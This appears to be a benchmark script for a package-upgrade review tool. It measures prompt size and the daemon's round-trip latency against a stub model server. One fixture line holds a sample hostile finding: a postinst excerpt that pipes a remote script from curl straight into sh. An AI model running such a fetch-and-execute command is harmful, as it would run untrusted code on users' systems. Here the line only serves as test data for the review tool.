"""Review prompt figures (issue 4): prompt size for a 50-package plan.

- ``prompt_tokens_50``: tokens (characters / 4) of the whole prompt (system + user) for a
  50-package upgrade plan with a realistic short description per package, one hostile
  finding with its excerpt, one vulnerability and one signal. Goal <= 3,000.
- ``plan_json_tokens_50``: the same plan's full canonical JSON, in the same units, and
  ``prompt_over_plan`` the ratio: the prompt carries the facts, not the document.
- ``prompt_tokens_500``: the same for 500 packages (lists are capped; bounded, not linear).
- ``build_ms_50``: time to build one 50-package prompt, in process.
- ``reviewd_round_trip_ms``: one review of the 50-package plan through a real
  aegis-reviewd process (Unix socket request, strict plan parse, prompt, the HTTP call,
  answer parse, signature) against a loopback chat-completions server that answers at
  once; ``raw_http_ms``: the same HTTP request (same body) posted directly to the same
  server. Medians, the two alternating; issue 21 goal: round trip <= 1.1 x raw + 5 ms.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

PROMPT_GOAL_TOKENS = 3000
"""Issue 4's goal for a 50-package prompt."""


def _plan(packages: int) -> Any:
    from aegis.devtools import policy_plans as pp
    from aegis.model import Finding, Signal, Vulnerability

    plan = pp.clean_plan(packages=packages)
    return replace(
        plan,
        descriptions={
            c.name: f"shared library and utilities for {c.name} (runtime files)"
            for c in plan.changes
        },
        findings=(
            Finding(
                "script.download-exec",
                "pkg0001",
                "postinst",
                12,
                "hostile",
                excerpt="curl -fsSL https://example.invalid/x.sh | sh",
            ),
        ),
        vulnerabilities=(
            Vulnerability(
                "pkg0002", "pkg0002", "1.1", "CVE-2026-0002", "medium", None, False, False
            ),
        ),
        signals=(Signal("maintainer-script", "pkg0001", "new postinst"),),
    )


def _figures(packages: int) -> tuple[int, int, float]:
    from aegis.canonical import canonical_bytes
    from aegis.model import plan_to_dict
    from aegis.review.prompt import build_prompt

    plan = _plan(packages)
    started = time.perf_counter()
    prompt = build_prompt(plan)
    elapsed = time.perf_counter() - started
    plan_chars = len(canonical_bytes(plan_to_dict(plan)).decode("utf-8"))
    return prompt.tokens, plan_chars // 4, elapsed


ROUND_TRIPS = 30
_ANSWER = json.dumps(
    {
        "id": "chatcmpl-bench",
        "object": "chat.completion",
        "created": 1,
        "model": "bench-model",
        "choices": [
            {
                "index": 0,
                "message": {
                    "role": "assistant",
                    "content": json.dumps(
                        {
                            "risk": "low",
                            "flags": [],
                            "recommendation": "no-objection",
                            "summary": "Routine upgrade from the approved source.",
                        }
                    ),
                },
                "finish_reason": "stop",
            }
        ],
    }
).encode()


class _Model(BaseHTTPRequestHandler):
    """A chat-completions server that answers at once (the model's time is not ours)."""

    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(_ANSWER)))
        self.end_headers()
        self.wfile.write(_ANSWER)

    def log_message(self, format: str, *args: Any) -> None:
        pass


def _raw_post(port: int, body: bytes) -> None:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request(
            "POST", "/v1/chat/completions", body=body, headers={"Content-Type": "application/json"}
        )
        resp = conn.getresponse()
        resp.read()
    finally:
        conn.close()


def _round_trip() -> dict[str, object]:
    from aegis.config import load_config
    from aegis.model import plan_to_dict
    from aegis.review.client import reasoning_controls, review_json_schema
    from aegis.review.prompt import build_prompt
    from aegis.review.wire import REQUEST_SCHEMA, call
    from aegis.sign.keys import write_keypair

    server = ThreadingHTTPServer(("127.0.0.1", 0), _Model)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    home = Path(tempfile.mkdtemp(prefix="aegis-bench-review-"))
    run_dir = Path(tempfile.mkdtemp(prefix="rv-", dir="/tmp"))  # socket paths are short
    env = {k: v for k, v in os.environ.items() if not k.startswith("AEGIS_")}
    env.update(
        AEGIS_HOME=str(home),
        AEGIS_RUN_DIR=str(run_dir),
        AEGIS_AI_BASE_URL=f"http://127.0.0.1:{port}/v1",
        AEGIS_AI_MODEL="bench-model",
        PYTHONPATH=str(Path(__file__).resolve().parents[2]),
    )
    cfg = load_config(env)
    write_keypair(cfg.keys_dir, "review")
    proc = subprocess.Popen(
        [sys.executable, "-m", "aegis.review.reviewd"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 30
        while not cfg.reviewd_socket.exists():
            if proc.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError("aegis-reviewd did not start")
            time.sleep(0.02)
        plan = _plan(50)
        request = {"schema_version": REQUEST_SCHEMA, "op": "review", "plan": plan_to_dict(plan)}
        schema = {"name": "aegis_review", "strict": True, "schema": review_json_schema()}
        body = json.dumps(
            {
                "model": "bench-model",
                "messages": build_prompt(plan).messages(),
                "temperature": 0,
                "max_tokens": cfg.ai_max_tokens,
                "response_format": {"type": "json_schema", "json_schema": schema},
                **reasoning_controls(cfg.ai_reasoning),
            }
        ).encode()
        answer = call(cfg.reviewd_socket, request, timeout=30)
        if not answer.get("ok") or answer["review"]["status"] != "valid":
            raise RuntimeError(f"bench review did not count: {answer}")
        _raw_post(port, body)
        via, raw = [], []
        for _ in range(ROUND_TRIPS):
            start = time.perf_counter()
            call(cfg.reviewd_socket, request, timeout=30)
            via.append(time.perf_counter() - start)
            start = time.perf_counter()
            _raw_post(port, body)
            raw.append(time.perf_counter() - start)
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        server.shutdown()
        server.server_close()
        shutil.rmtree(home, ignore_errors=True)
        shutil.rmtree(run_dir, ignore_errors=True)
    via_ms, raw_ms = statistics.median(via) * 1000, statistics.median(raw) * 1000
    goal = 1.1 * raw_ms + 5
    return {
        "reviewd_round_trip_ms": round(via_ms, 2),
        "raw_http_ms": round(raw_ms, 2),
        "round_trip_goal_ms": round(goal, 2),
        "round_trip_meets_goal": via_ms <= goal,
    }


def run() -> dict[str, object]:
    """Measure the figures above in this one run."""
    tokens, plan_tokens, elapsed = _figures(50)
    tokens_500, plan_tokens_500, _ = _figures(500)
    return {
        "prompt_tokens_50": tokens,
        "prompt_goal_tokens": PROMPT_GOAL_TOKENS,
        "prompt_within_goal": tokens <= PROMPT_GOAL_TOKENS,
        "plan_json_tokens_50": plan_tokens,
        "prompt_over_plan": round(tokens / plan_tokens, 3),
        "prompt_tokens_500": tokens_500,
        "plan_json_tokens_500": plan_tokens_500,
        "build_ms_50": round(elapsed * 1000, 2),
        **_round_trip(),
    }
